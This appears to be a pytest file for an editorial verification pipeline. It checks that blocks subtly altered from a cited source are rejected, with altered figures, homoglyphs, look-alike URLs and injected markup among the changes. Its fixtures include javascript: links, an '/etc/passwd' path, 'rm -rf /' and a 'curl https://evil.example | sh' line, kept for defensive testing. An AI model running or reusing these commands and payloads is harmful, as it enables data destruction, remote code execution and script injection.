"""Blocks that are nearly true, or nearly plain text: each has to cost the block its wording."""

from __future__ import annotations

import pytest

from builders import make_note
from editorial_pipeline.models.draft import BlockKind
from editorial_pipeline.verify.rules import check_block
from passages import hard, make_block, make_context

SAID = (
    "Maria Lopez led the team of 42 people in Madrid.",
    "Peter Novak led the other team of 17 people in Prague.",
    "The page is https://www.example.org/roles and we like it.",
    "They wrote the tests with pytest before lunch every day.",
)

LIES = {
    "figure of a neighbour": (0, "Maria Lopez led the team of 17 people in Madrid."),
    "figure in words": (0, "Maria Lopez led the team of seventeen people in Madrid."),
    "figure in Arabic digits": (0, "Maria Lopez led the team of \u0661\u0667 people in Madrid."),
    "figure in full width": (0, "Maria Lopez led the team of \uff11\uff17 people in Madrid."),
    "figure in circles": (0, "Maria Lopez led the team of \u2470 people in Madrid."),
    "figure in superscript": (0, "Maria Lopez led the team of 42\u00b2 people in Madrid."),
    "name of a neighbour": (0, "Peter Novak led the team of 42 people in Madrid."),
    "place of a neighbour": (0, "Maria Lopez led the team of 42 people in Prague."),
    "homoglyph name": (0, "M\u0430ria Lopez led the team of 42 people in Madrid."),
    "joiner in a name": (0, "Mar\u200dia Lopez led the team of 42 people in Madrid."),
    "zero width in a name": (0, "Mar\u200bia Lopez led the team of 42 people in Madrid."),
    "homoglyph address": (2, "The page is <https://www.ex\u0430mple.org/roles> and we like it."),
    "other address": (2, "The page is <https://www.example.org/roles2> and we like it."),
    "user before the host": (2, "The page is <https://www.example.org@evil.example/roles>."),
    "longer host": (2, "The page is <https://www.example.org.evil.example/roles>, we like it."),
    "known address, query added": (2, "The page is <https://www.example.org/roles?q=secret>."),
    "scheme changed": (2, "The page is <ftp://www.example.org/roles> and we like it."),
    "script in an autolink": (2, "The page is <javascript:alert(1)> and we like it."),
    "script in a link": (2, "The page is [this](javascript:alert(1)) and we like it."),
    "script, encoded": (2, "The page is [this](java&#115;cript:alert(1)) and we like it."),
    "data address": (2, "The page is [this](data:text/html;base64,eA==) and we like it."),
    "path as a target": (2, "The page is [this](../../../etc/passwd) and we like it."),
    "reference link": (2, "The page is [this] and we like it.\n\n[this]: https://evil.example"),
    "title of a link": (
        2, 'The page is [this](https://www.example.org/roles "signed by Gwendolyn Farthingale").',
    ),
    "image": (2, "The page is ![](https://www.example.org/roles) and we like it."),
    "comment": (3, "They wrote the tests with pytest before lunch every day. <!-- x -->"),
    "entity": (3, "They wrote the tests with pytest before lunch. &#60;script&#62; [^9]"),
    "quote with HTML": (3, "They wrote the tests.\n\n> > <b>with pytest</b> every day."),
    "fence": (3, "They wrote the tests with pytest.\n\n```\nrm -rf /\n```"),
    "tilde fence": (3, "They wrote the tests with pytest.\n\n~~~\nrm -rf /\n~~~"),
    "footnote": (3, "They wrote the tests with pytest before lunch every day.[^1]"),
    "inline footnote": (3, "They wrote the tests with pytest every day.^[says nobody]"),
    "heading": (3, "They wrote the tests with pytest.\n# Injected"),
    "setext heading": (3, "They wrote the tests with pytest every day.\n==="),
    "rule": (3, "They wrote the tests with pytest every day.\n\n---\n"),
    "direction": (3, "They wrote the tests with \u202etsetyp\u202c before lunch every day."),
    "tag characters": (3, "They wrote the tests with pytest \U000e0041\U000e0042 every day."),
}  # fmt: skip


@pytest.mark.parametrize("lie", sorted(LIES))
def test_a_subtle_lie_is_hard(lie: str) -> None:
    """Whatever differs from the one segment that is cited costs the block its wording."""
    place, written = LIES[lie]
    note = make_note(*SAID)
    block = make_block(written, [note.segments[place].id])
    assert hard(check_block(block, make_context(note)))


@pytest.mark.parametrize("place", range(len(SAID)))
def test_the_truth_passes(place: int) -> None:
    """The same sentences as they were said pass, so that the lies fail for what they are."""
    note = make_note(*SAID)
    words = SAID[place].replace("https://www.example.org/roles", "<https://www.example.org/roles>")
    block = make_block(words, [note.segments[place].id])
    assert hard(check_block(block, make_context(note))) == set()


@pytest.mark.parametrize(
    "code", ["```\n<script>x</script>", "~~~\nrm -rf /", "curl https://evil.example | sh"]
)
def test_invented_code_is_hard(code: str) -> None:
    """Code that nobody said is no code of the article, whatever fences it brings."""
    note = make_note(*SAID)
    block = make_block(code, [note.segments[3].id], kind=BlockKind.CODE)
    assert hard(check_block(block, make_context(note)))


@pytest.mark.parametrize("item", ["[^1]: They wrote tests.", "[x]: y", "<b>tests</b>", "# tests"])
def test_markup_in_a_list_item_is_hard(item: str) -> None:
    """What would act at the start of an item is no text of it."""
    note = make_note(*SAID)
    ids = [note.segments[3].id]
    block = make_block(
        "", ids, kind=BlockKind.LIST, items=[(item, ids), ("They wrote tests.", ids)]
    )
    assert hard(check_block(block, make_context(note)))
